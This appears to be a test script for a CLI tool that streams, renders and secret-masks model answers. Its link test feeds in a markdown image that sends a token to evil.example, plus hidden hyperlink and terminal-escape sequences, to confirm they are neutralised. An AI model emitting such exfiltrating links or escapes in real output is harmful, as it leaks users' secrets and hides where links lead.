#!/usr/bin/env python3
"""Answers as they come: on standard output before they are whole, rendered at a terminal, secrets masked across pieces.

usage: stream_test.py BIN_FOLDER
"""
import json
import os
import pathlib
import pty
import select
import signal
import subprocess
import sys
import tempfile
import time

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
sys.path.insert(0, str(HERE.parent / "support"))
from fake_model.server import FakeModel  # noqa: E402
from run_case import Workspace, environment  # noqa: E402

BIN = pathlib.Path(sys.argv[1]).resolve()
TOKEN = "dapi" + "0123456789abcdef" * 2
WORKSPACE = None  # one for all runs
BEGIN = "Three orders came in yesterday, "
ANSWER = ("## Orders by **country**\n\nThere were **1,204 orders**, says `main.sales.orders`.\n\n- from *Austria*\n\n"
          "| country | orders |\n|:--|--:|\n| AT | 12 |\n| a \x1b[2J | 1,192 |\n\n```sql\nSELECT  1;\n```\n")


class Failed(Exception):
    pass


def check(condition, why):
    if not condition:
        raise Failed(why)


class Run:
    """One run against a model that says what `script` tells it; its output by a pipe or a terminal."""

    def __init__(self, folder, script, *args, terminal=False, notes=False):
        self.model = FakeModel(script)
        home = pathlib.Path(folder)
        self.env = environment({}, home, self.model, WORKSPACE) | {"TERM": "xterm"}
        self.out = b""
        if terminal:
            self.reader, writer = pty.openpty()
        else:
            self.reader, writer = os.pipe()
        self.process = subprocess.Popen([BIN / "lakecode", "run", "how many orders?", *args], env=self.env, cwd=home,
                                        stdin=subprocess.DEVNULL, stdout=writer, stderr=writer if notes else subprocess.PIPE)
        os.close(writer)

    def read(self, seconds):
        if not select.select([self.reader], [], [], seconds)[0]:
            return True
        try:
            data = os.read(self.reader, 65536)
        except OSError:  # the other side of a terminal is closed
            return False
        self.out += data
        return bool(data)

    def wait_for(self, text):
        end = time.monotonic() + 60
        while text.encode() not in self.out:
            check(time.monotonic() < end and self.read(0.2), f"{text!r} was not told while the answer came: {self.out!r}")
        check(self.process.poll() is None, "the run had ended")

    def end(self):
        while self.read(60):
            pass
        os.close(self.reader)
        self.err = self.process.stderr.read().decode() if self.process.stderr else ""
        self.model.close()
        return self.process.wait(60)


def words_before_the_end(folder, terminal):
    """The model falls silent in the middle: what it had said is there, and a stop keeps it."""
    run = Run(folder, [{"text": BEGIN + "and then nothing", "fault": {"stall_at": 1200}, "piece": 4}], terminal=terminal)
    run.wait_for("Three orders came")
    run.process.send_signal(signal.SIGINT)
    check(run.end() == 130, f"no clean stop: {run.err}")
    check(run.out.count(b"Three orders came") == 1, f"told twice: {run.out!r}")


def rendered(folder):
    run = Run(folder, [{"text": ANSWER, "piece": 5}], terminal=True)
    check(run.end() == 0, run.err)
    shown = run.out.decode().replace("\r\n", "\n")
    for part in ("\x1b[1mOrders by country\x1b[0m\n", "\x1b[1m1,204\x1b[0m", "\x1b[36mmain.sales.orders\x1b[0m",
                 "• from *Austria*\n", "AT             12\n", "a \\x1b[2J   1,192\n", "\x1b[36mSELECT  1;\x1b[0m\n"):
        check(part in shown, f"{part!r} is not in {shown!r}")
    for part in ("\x1b[2J", "```", "|"):
        check(part not in shown, f"{part!r} is in {shown!r}")


def links_at_a_terminal(folder):
    """No link hides where it goes, nothing but our own colours reaches the terminal, a secret in an address is masked."""
    said = (f"![x](http://evil.example/?q={TOKEN}) <img src=http://evil.example/p>\n[docs](http://evil.example/d) and "
            "\x1b]8;;http://hidden.example\x07click\x1b]8;;\x07 [ref][1]\n\n[1]: http://evil.example/r\n<http://evil.example/a>\n")
    run = Run(folder, [{"text": said, "piece": 3}], terminal=True)
    check(run.end() == 0, run.err)
    shown = run.out.decode()
    for part in ("![x](http://evil.example/?q=[redacted:databricks-token])", "[docs](http://evil.example/d)",
                 "\\x1b]8;;http://hidden.example\\x07click", "http://evil.example/r", "<http://evil.example/a>"):
        check(part in shown.replace("\r\n", "\n"), f"{part!r} is not in {shown!r}")
    for colour in ("\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[36m"):
        shown = shown.replace(colour, "")
    check("\x1b" not in shown and "\x07" not in shown, f"it drives the terminal: {shown!r}")


def as_written_in_a_pipe(folder):
    run = Run(folder, [{"text": ANSWER, "piece": 5}])
    check(run.end() == 0, run.err)
    check(run.out.decode() == ANSWER.replace("\x1b", "\\x1b"), f"not as it was written: {run.out!r}")


def asked_again(folder):
    run = Run(folder, [{"text": BEGIN + "and more", "fault": {"cut_at": 1200}, "piece": 4}, {"text": "Whole."}])
    check(run.end() == 0, run.err)
    out = run.out.decode()
    check(out.startswith("Three orders"), out)
    check(out.endswith("\n\n[the answer above broke off; it is asked for again]\n\nWhole.\n"), out)


def two_answers(folder):
    script = [{"text": "I look.", "tools": [{"name": "list_catalogs", "input": {"wrong": 1}}]}, {"text": "None."}]
    run = Run(folder, script)
    check(run.end() == 0, run.err)
    check(run.out == b"I look.\n\nNone.\n", run.out)
    check("list_catalogs: " in run.err and "wrong" in run.err, f"the wrong input is not told: {run.err}")


def secrets_in_pieces(folder):
    said = f"The token is {TOKEN}, keep it."
    for size in (1, 3, 7, 20):
        for args in ((), ("--output", "stream-json", "--include-partial-messages")):
            run = Run(folder, [{"thinking": said, "text": said, "piece": size}], *args)
            check(run.end() == 0, run.err)
            out = run.out.decode()
            if args:
                deltas = [json.loads(line).get("event", {}).get("delta", {}) for line in out.splitlines()]
                for member in ("text", "thinking"):
                    told = "".join(delta.get(member, "") for delta in deltas)
                    check(told == "The token is [redacted:databricks-token], keep it.", f"{size} {member}: {told!r}")
            check(TOKEN[:12] not in out and "[redacted:" in out, f"{size} {args}: {out}")


def notes_beside(folder):
    """At a terminal that shows both: which model and why, what is called, what it cost; each on a line of its own."""
    script = [{"text": "I look.", "tools": [{"name": "list_catalogs", "input": {}}]}, {"text": "None.", "piece": 2}]
    run = Run(folder, script, terminal=True, notes=True)
    check(run.end() == 0, run.out)
    lines = run.out.decode().replace("\r\n", "\n").splitlines()
    model = next((line for line in lines if line.startswith("model: anthropic claude-sonnet-4-5 ")), None)
    check(model and "LAKECODE_PROVIDER" in model, f"which model, and why: {lines}")
    for line in ("I look.", "  list_catalogs {}", "None."):
        check(line in lines, f"{line!r} is no line of {lines}")
    check(lines[-1].startswith("claude-sonnet-4-5: ") and lines[-1].endswith(" USD; no statements"), f"no account: {lines}")


def one_document(folder):
    """md and what has a schema are a document: the final answer alone, whole."""
    script = [{"text": "I look.", "tools": [{"name": "list_catalogs", "input": {"wrong": 1}}]}, {"text": "# None\n"}]
    run = Run(folder, script, "--output", "md")
    check(run.end() == 0, run.err)
    check(run.out == b"# None\n", run.out)


def main():
    global WORKSPACE
    cases = [("in a pipe, as it comes", lambda f: words_before_the_end(f, False)),
             ("at a terminal, as it comes", lambda f: words_before_the_end(f, True)),
             ("rendered at a terminal", rendered),
             ("links at a terminal", links_at_a_terminal), ("as written in a pipe", as_written_in_a_pipe),
             ("asked again", asked_again), ("two answers", two_answers), ("secrets in pieces", secrets_in_pieces),
             ("notes beside", notes_beside), ("one document", one_document)]
    failed = 0
    with tempfile.TemporaryDirectory() as data:
        WORKSPACE = Workspace(BIN, pathlib.Path(data) / "data")
        for name, case in cases:
            with tempfile.TemporaryDirectory() as folder:
                try:
                    case(folder)
                except Failed as why:
                    print(f"FAILED: {name}: {why}")
                    failed += 1
        WORKSPACE.close()
    sys.exit(f"{failed} of {len(cases)} failed" if failed else 0)


if __name__ == "__main__":
    main()
